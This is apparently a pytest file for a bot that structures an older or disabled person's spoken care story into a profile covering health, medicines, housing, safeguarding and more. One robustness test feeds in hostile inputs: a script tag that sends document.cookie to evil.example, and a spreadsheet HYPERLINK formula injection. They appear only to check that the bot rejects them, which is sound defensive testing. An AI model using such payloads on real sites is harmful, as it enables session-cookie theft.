"""Structuring a plain-language story into the profile of docs/profile.md."""
import json
import os
import subprocess
import sys

import pytest

from bot.conversation.readback import read_back
from bot.sections import SECTION_KEYS
from bot.settings import PROJECT_ROOT
from bot.understanding.structuring import join_story

STORY = (
    "My name is Margaret Jones and I'm 78. I have type 2 diabetes and high blood pressure. "
    "I take metformin 500mg twice a day and I stopped taking warfarin last year. "
    "I don't have asthma. My mother had breast cancer. I used to smoke. I'm allergic to penicillin. "
    "I live alone in a council flat on the third floor and the lift is often broken. "
    "I can't manage the stairs and I use a walking frame. My daughter Sue helps with shopping. "
    "Dr Patel at Riverside Surgery is my GP. I'm hard of hearing so please send texts. "
    "I fell twice this year. I'm on Universal Credit and behind with the rent. "
    "I want to be able to get to the shops on my own. Gardening matters to me."
)


def items(profile, section):
    return {item["text"]: item for item in profile["sections"][section]}


@pytest.fixture(scope="module")
def margaret(structurer):
    return structurer.structure([STORY], teller="self")


def test_every_section_key_is_present(margaret):
    assert tuple(margaret["sections"]) == SECTION_KEYS


def test_conditions_carry_their_status(margaret):
    health = items(margaret, "health")
    assert health["type 2 diabetes"]["status"] == "current"
    assert health["high blood pressure"]["status"] == "current"
    assert health["asthma"]["status"] == "negated"
    assert health["smoking"]["status"] == "past"
    assert (health["breast cancer"]["status"], health["breast cancer"]["about"]) == ("family", "mother")


def test_medicines_have_dose_and_frequency_and_stopped_ones_are_past(margaret):
    medicines = {item["name"]: item for item in margaret["sections"]["medications"]}
    assert (medicines["metformin"]["dose"], medicines["metformin"]["frequency"]) == ("500mg", "twice a day")
    assert medicines["metformin"]["status"] == "current"
    assert medicines["warfarin"]["status"] == "past"


def test_sentence_sections_are_filled(margaret):
    def texts(section):
        return " ".join(
            item["text"] for item in margaret["sections"][section])
    assert "walking frame" in texts("daily_living")
    assert "third floor" in texts("home")
    assert "Sue" in texts("support_network")
    assert "Dr Patel" in texts("services_involved")
    assert "hard of hearing" in texts("communication")
    assert "fell twice" in texts("risks")
    assert "Universal Credit" in texts("work_money")
    assert "get to the shops" in texts("goals")
    assert "Gardening" in texts("what_matters")
    assert "penicillin" in items(margaret, "allergies")


def test_a_need_is_not_mistaken_for_a_negation(margaret):
    stairs = [i for i in margaret["sections"]["daily_living"] if "stairs" in i["text"]]
    assert stairs and stairs[0]["status"] == "current"


def test_name_and_age(margaret):
    about = items(margaret, "about_me")
    assert about["Margaret Jones"]["kind"] == "name"
    assert about["78 years old"]["value"] == 78


def test_every_source_points_at_the_words_it_came_from(margaret):
    for section, section_items in margaret["sections"].items():
        for item in section_items:
            said = STORY[item["source"]["start"]:item["source"]["end"]]
            expected = item.get("term") or item["text"]
            if section != "about_me" or item.get("kind") != "age":
                assert said.lower() == expected.lower(), (section, item)


def test_a_story_over_several_messages_keeps_offsets_into_the_joined_story(structurer):
    parts = ["I have asthma.", "  ", "I take salbutamol when needed."]
    profile = structurer.structure(parts)
    story = join_story(parts)
    salbutamol = profile["sections"]["medications"][0]
    assert story[salbutamol["source"]["start"]:salbutamol["source"]["end"]] == "salbutamol"
    assert salbutamol["frequency"] == "when needed"


def test_a_carers_own_facts_go_to_support_network_as_the_carers(structurer):
    profile = structurer.structure(
        ["My dad has dementia. His mother had Alzheimer's too. I work full time. "
         "We'd love him to stay in his own home."], teller="carer")
    health = items(profile, "health")
    assert health["dementia"]["about"] == "subject" and health["dementia"]["status"] == "current"
    assert health["alzheimer's"]["status"] == "family"
    narrator = [i for i in profile["sections"]["support_network"] if i["about"] == "narrator"]
    assert [i["text"] for i in narrator] == ["I work full time"]
    assert profile["sections"]["work_money"] == []
    assert profile["sections"]["goals"][0]["told_by"] == "carer"


@pytest.mark.parametrize("story, reason", [
    ("My partner hits me when he drinks.", "domestic_abuse"),
    ("Some days I want to end my life.", "suicidal"),
    ("I don't feel safe at home.", "not_safe_at_home"),
])
def test_safeguarding_concerns_are_flagged_with_a_reason(structurer, story, reason):
    profile = structurer.structure([story])
    assert profile["safeguarding"] == {"concern": True, "reasons": [reason]}


def test_an_ordinary_story_raises_no_concern(margaret):
    assert margaret["safeguarding"] == {"concern": False, "reasons": []}


@pytest.mark.parametrize("story", ["", "   ", "😀🙏🏠", "مرحبا كيف حالك", "你好，我很好", "<script>alert(1)</script>",
                                   "x" * 20_000, "I have asthma. " * 2_000])
def test_odd_input_never_crashes_and_invents_nothing(structurer, story):
    profile = structurer.structure([story])
    assert tuple(profile["sections"]) == SECTION_KEYS
    if "asthma" not in story:
        assert not any(profile["sections"].values())


def test_teller_must_be_self_or_carer(structurer):
    with pytest.raises(ValueError):
        structurer.structure(["hello"], teller="someone")


def test_the_cli_reads_stdin_and_prints_the_profile_json():
    result = subprocess.run(
        [sys.executable, "-m", "bot", "structure", "--teller", "self"], input=STORY, text=True,
        capture_output=True, cwd=PROJECT_ROOT, timeout=120,
        env={**os.environ, "RASA_TELEMETRY_ENABLED": "false"})
    assert result.returncode == 0, result.stderr[-2000:]
    profile = json.loads(result.stdout)
    assert set(profile) == {"sections", "safeguarding"}
    assert tuple(profile["sections"]) == SECTION_KEYS
    assert profile["safeguarding"]["concern"] is False
    assert "type 2 diabetes" in {i["text"] for i in profile["sections"]["health"]}


# -- issue 3: what structuring must handle ------------------------------------------------------

def section_text(profile, section):
    return " | ".join(item["text"] for item in profile["sections"][section])


@pytest.mark.parametrize("said, fact", [
    ("I live on the fourth floor.", "fourth floor"),
    ("There is no lift in our block.", "no lift"),
    ("The stairs up to my flat are steep.", "stairs"),
    ("The bedroom has damp and mould.", "damp"),
    ("I'm a council tenant.", "council tenant"),
    ("We rent from a housing association.", "housing association"),
    ("I own my home.", "own my home"),
    ("My landlord gave me a section 21 notice.", "section 21"),
    ("I've been given notice to leave.", "notice to leave"),
    ("I'm sleeping rough at the moment.", "sleeping rough"),
])
def test_housing_facts_go_to_home(structurer, said, fact):
    assert fact in section_text(structurer.structure([said]), "home")


@pytest.mark.parametrize("said, aid", [
    ("I use a walking frame indoors.", "walking frame"),
    ("She has a wheelchair for outside.", "wheelchair"),
    ("He needs a hoist to get out of bed.", "hoist"),
])
def test_aids_are_recorded_as_aids(structurer, said, aid):
    items_ = structurer.structure([said])["sections"]["daily_living"]
    assert [aid] == items_[0]["aids"] and items_[0]["status"] == "current"


@pytest.mark.parametrize("said, need", [
    ("I'm hard of hearing.", "hard of hearing"),
    ("I'm partially sighted.", "partially sighted"),
    ("Letters need to be in easy read.", "easy read"),
    ("I need an interpreter.", "interpreter"),
    ("I prefer texts to phone calls.", "texts"),
])
def test_communication_needs(structurer, said, need):
    assert need in section_text(structurer.structure([said]), "communication")


@pytest.mark.parametrize("said", ["I want to walk to the shops again.", "I'd like a downstairs bathroom.",
                                  "We'd love him to come home for Christmas.", "My goal is to work again."])
def test_goals_in_the_ways_people_say_them(structurer, said):
    goals = structurer.structure([said], teller="carer" if "him" in said else "self")["sections"]["goals"]
    assert [item["text"] for item in goals] == [said.rstrip(".")]


def test_professionals_and_relations_keep_their_names(structurer):
    profile = structurer.structure(["Dr Patel at Riverside Surgery is my GP. My daughter Sue visits daily. "
                                    "My social worker is called Jo Brown."])
    services = profile["sections"]["services_involved"]
    assert (services[0]["name"], services[0]["organisation"]) == ("Dr Patel", "Riverside Surgery")
    assert (services[1]["role"], services[1]["name"]) == ("social worker", "Jo Brown")
    support = profile["sections"]["support_network"][0]
    assert (support["relationship"], support["name"]) == ("daughter", "Sue")


def test_the_carer_names_whose_story_it_is(structurer):
    profile = structurer.structure(["My husband Frank is 81 and has Parkinson's. I'm 79 myself."],
                                   teller="carer")
    about = {item["kind"]: item["text"] for item in profile["sections"]["about_me"]}
    assert about == {"name": "Frank", "gender": "male", "age": "81 years old"}  # "my husband": male
    narrator = profile["sections"]["support_network"]
    assert [(i["text"], i["about"]) for i in narrator] == [("I'm 79 myself", "narrator")]


@pytest.mark.parametrize("said, status, about", [
    ("I don't have diabetes.", "negated", "subject"),
    ("I'm not diabetic.", "negated", "subject"),
    ("I used to have diabetes.", "past", "subject"),
    ("My father had diabetes.", "family", "father"),
    ("If I get diabetes I will need help.", "hypothetical", "subject"),
    ("I might have diabetes.", "hypothetical", "subject"),
    ("I've had diabetes for ten years.", "current", "subject"),
])
def test_context_sentence_by_sentence(structurer, said, status, about):
    diabetes = structurer.structure([said])["sections"]["health"]
    assert [(i["text"], i["status"], i["about"]) for i in diabetes] == [("diabetes", status, about)]


def test_an_inability_is_a_need_and_never_a_negation(structurer):
    for said in ("I can't manage the stairs.", "She isn't eating.", "He can't use the phone any more."):
        profile = structurer.structure([said])
        found = profile["sections"]["daily_living"] + profile["sections"]["communication"]
        assert found and all(item["status"] == "current" for item in found), said


def test_a_correction_updates_the_side_it_names(structurer):
    profile = structurer.structure(["I had my right hip replaced in May.", "No, it's my left hip."])
    health = profile["sections"]["health"]
    assert [(i["text"], i["site"]) for i in health] == [("left hip replacement", "left")]
    assert "corrected_by" in health[0]


def test_stopping_a_medicine_updates_it_and_keeps_its_dose(structurer):
    profile = structurer.structure(["I take warfarin 3mg every evening and metformin.",
                                    "I stopped taking the warfarin last month."])
    medicines = {i["name"]: i for i in profile["sections"]["medications"]}
    assert len(profile["sections"]["medications"]) == 2
    assert (medicines["warfarin"]["status"], medicines["warfarin"]["dose"]) == ("past", "3mg")
    assert medicines["metformin"]["status"] == "current"


def test_a_correction_that_matches_nothing_is_kept_as_a_fact(structurer):
    profile = structurer.structure(["I have asthma.", "No, I also have a bad knee on the left side."])
    health = profile["sections"]["health"]
    assert [(i["text"], i["status"]) for i in health] == [("asthma", "current"), ("knee", "current")]
    assert not any("corrected_by" in i for i in health)


@pytest.mark.parametrize("said, meant, section", [
    ("I take metfromin.", "metformin", "medications"),
    ("I take metphormin.", "metformin", "medications"),
    ("I take ramiprill daily.", "ramipril", "medications"),
    ("I'm on amlodopine.", "amlodipine", "medications"),
    ("I have diabeties.", "diabetes", "health"),
    ("I have high blood presure.", "high blood pressure", "health"),
    ("I have arthiritis.", "arthritis", "health"),
    ("I had a strok.", "stroke", "health"),
])
def test_misspellings_are_matched_and_say_how_they_were_written(structurer, said, meant, section):
    found = structurer.structure([said])["sections"][section]
    assert [i.get("name", i["text"]).split(" (")[0] for i in found] == [meant]
    assert found[0]["spelled"].lower() in said.lower()


ORDINARY = [
    "I went on strike last year.", "The cat had a stroke of luck.", "My insular little village.",
    "She stroked the dog.", "The statue in the park.", "We had a lovely holiday in Devon.",
    "I like walking by the river.", "My brother plays the guitar.", "We went to the seaside.",
    "Tea with two sugars please.", "I read the newspaper every day.", "The weather has been awful.",
    "Can you tell me the time?", "He supports Arsenal.", "The bus was late again.",
    "We painted the kitchen yellow.", "She bought new curtains.", "My garden fence blew down.",
    "The insurance letter came.", "I watched a film about a heist.", "The dentist called about Tuesday.",
    "We ate pasta for dinner.", "The train station is closed.", "I hope it stays sunny.",
]


def test_fuzzy_matching_never_invents_a_condition_or_medicine(structurer):
    for said in ORDINARY:
        profile = structurer.structure([said])
        assert profile["sections"]["health"] == [] and profile["sections"]["medications"] == [], said


@pytest.mark.parametrize("said, reason", [
    ("My son takes my money and shouts at me.", "financial_abuse"),
    ("I have thought about ending my life.", "suicidal"),
    ("I've been cutting myself again.", "self_harm"),
    ("Mum is left alone all day with no food.", "neglect"),
    ("I'm not safe at home.", "not_safe_at_home"),
])
def test_every_kind_of_safeguarding_concern_gives_its_reason(structurer, said, reason):
    concern = structurer.structure([said])["safeguarding"]
    assert concern["concern"] is True and reason in concern["reasons"]


@pytest.mark.parametrize("said", ["I'm not suicidal.", "I have never been abused."])
def test_a_denied_concern_is_not_flagged(structurer, said):
    assert structurer.structure([said])["safeguarding"] == {"concern": False, "reasons": []}


@pytest.mark.parametrize("story, who", [
    (["I live with my son.", "my son takes my pension and shouts at me"], "son"),
    (["My husband controls all the money and wont let me see my friends."], "husband"),
    (["My daughter helps with shopping. My nephew hits me when he's been drinking."], "nephew"),
])
def test_a_person_who_harms_is_a_risk_never_a_support(structurer, story, who):
    """Safety hazard (docs/clinical-safety.md, H6): the son who takes her pension was read back under
    "People who support you"."""
    profile = structurer.structure(story)
    harm = [i for i in profile["sections"]["risks"] if i.get("kind") == "harm"]
    assert [i["by"] for i in harm] == [who]
    assert all(who not in i["text"].lower() for i in profile["sections"]["support_network"])
    groups = {g["section"]: g["lines"] for g in read_back(profile)}
    assert any(who in line.lower() for line in groups["risks"])
    assert not any(who in line.lower() for line in groups.get("support_network", []))


def test_someone_who_helps_is_still_a_support(structurer):
    profile = structurer.structure(["My son visits every Sunday and helps me with my bills."])
    assert [i["relationship"] for i in profile["sections"]["support_network"]] == ["son"]
    assert profile["sections"]["risks"] == [] and profile["safeguarding"]["concern"] is False


@pytest.mark.parametrize("story", [
    "",
    "Je suis malade et je vis seule à Paris.",
    "Mae gen i gath ac rydw i'n byw yng Nghaerdydd.",
    "😀🙏🏠🎉" * 50,
    "<script>document.location='http://evil.example/'+document.cookie</script><b>hello</b>",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
])
def test_bad_input_gets_a_clear_empty_result(structurer, story):
    profile = structurer.structure([story])
    assert not any(profile["sections"].values()) and profile["safeguarding"]["concern"] is False


def test_a_50000_character_story_is_structured_whole(structurer):
    sentence = "I have asthma and I use a walking frame. "
    story = (sentence * (50_000 // len(sentence) + 1))[:50_000]
    profile = structurer.structure([story])
    assert [i["text"] for i in profile["sections"]["health"]] == ["asthma"]  # said many times, kept once
    last = profile["sections"]["daily_living"][-1]["source"]["end"]
    assert last > 49_000  # the end of the story was read, not cut off


@pytest.mark.parametrize("stdin, message", [(b"", "The story is empty"),
                                            (b"\xff\xfe\x00 caf\xe9", "were not UTF-8")])
def test_the_cli_says_clearly_when_there_is_nothing_to_structure(stdin, message):
    result = subprocess.run(
        [sys.executable, "-m", "bot", "structure"], input=stdin, capture_output=True, cwd=PROJECT_ROOT,
        timeout=120, env={**os.environ, "RASA_TELEMETRY_ENABLED": "false"})
    assert result.returncode == 0, result.stderr[-2000:]
    assert not any(json.loads(result.stdout)["sections"].values())
    assert message in result.stderr.decode()
